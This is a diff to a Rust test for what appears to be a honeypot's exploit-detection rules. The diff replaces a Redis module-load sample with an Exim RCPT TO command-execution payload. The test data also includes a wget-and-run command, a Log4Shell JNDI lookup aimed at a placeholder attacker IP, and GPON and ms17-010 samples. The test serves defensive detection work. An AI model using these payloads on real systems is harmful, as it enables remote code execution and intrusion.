@@ -518,10 +518,10 @@ fn exploit_rules_at_ingest_and_reclassify(db: &mut dyn Storage) {
         prefix: gpon.to_vec(),
         truncated: false,
     };
-    let mut redis = ev(6);
-    redis.time_ms = T + 6;
-    redis.protocol = Protocol::Redis;
-    redis.detail = Detail::Command { line: "\"MODULE\" \"LOAD\" \"/tmp/exp.so\"".into() };
+    let mut smtp = ev(6);
+    smtp.time_ms = T + 6;
+    smtp.protocol = Protocol::Smtp;
+    smtp.detail = Detail::Command { line: "RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>".into() };
     let mut smb = ev(7);
     smb.time_ms = T + 7;
     smb.protocol = Protocol::Smb;
@@ -534,7 +534,7 @@ fn exploit_rules_at_ingest_and_reclassify(db: &mut dyn Storage) {
         http_ev(3, T + 3, "GET", "/shell", "cd+/tmp;wget+http://203.0.113.9/jaws;sh+jaws", "Hello, world"),
         http_ev(4, T + 4, "GET", "/", "", "${${lower:j}ndi:ldap://203.0.113.9:1389/a}"),
         http_ev(5, T + 5, "GET", "/index.html", "", "Mozilla/5.0"),
-        redis,
+        smtp,
         smb,
         last,
     ];
@@ -542,13 +542,14 @@ fn exploit_rules_at_ingest_and_reclassify(db: &mut dyn Storage) {
     let q = Query { since_ms: Some(T - 3_600_000), until_ms: Some(T + 3_600_000), sensor: None };
     let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
     analytics::refresh(db, &en).unwrap();
-    let shipped = vec![
+    let mut shipped = vec![
         ("GPON router auth bypass and diag_Form RCE".to_string(), "CVE-2018-10561, CVE-2018-10562".to_string(), 1),
         ("JAWS/MVPower DVR shell RCE".to_string(), String::new(), 1),
         ("Log4Shell JNDI lookup".to_string(), "CVE-2021-44228, CVE-2021-45046".to_string(), 1),
-        ("Redis rogue replica module load".to_string(), String::new(), 1),
+        ("Exim RCPT TO expansion RCE".to_string(), "CVE-2019-10149".to_string(), 1),
         ("ms17-010".to_string(), "CVE-2017-0144".to_string(), 1),
     ];
+    shipped.sort();
     assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), shipped);
     let downloads = vec![
         ("http://203.0.113.9/g.sh".to_string(), "wget".to_string(), 1),
@@ -593,11 +594,7 @@ fn exploit_rules_at_ingest_and_reclassify(db: &mut dyn Storage) {
     assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), shipped);
     assert_eq!(names_of(&analytics::downloads(&*db, &q, 50).unwrap()), downloads);
     // No rules at all: every derived record goes, the sensor's own exploit stays.
-    let none = Matcher::builtin(&ExploitsConfig::default()).map(|mut m| {
-        m.retain_none();
-        m
-    });
-    let none = none.unwrap();
+    let none = Matcher::empty(&ExploitsConfig::default());
     assert_eq!(reclassify(&*db, &none, 1000).unwrap().changed, 3 + 1);
     assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), vec![shipped[4].clone()]);
     assert_eq!(reclassify(&*db, &builtin, 1000).unwrap().changed, 4);
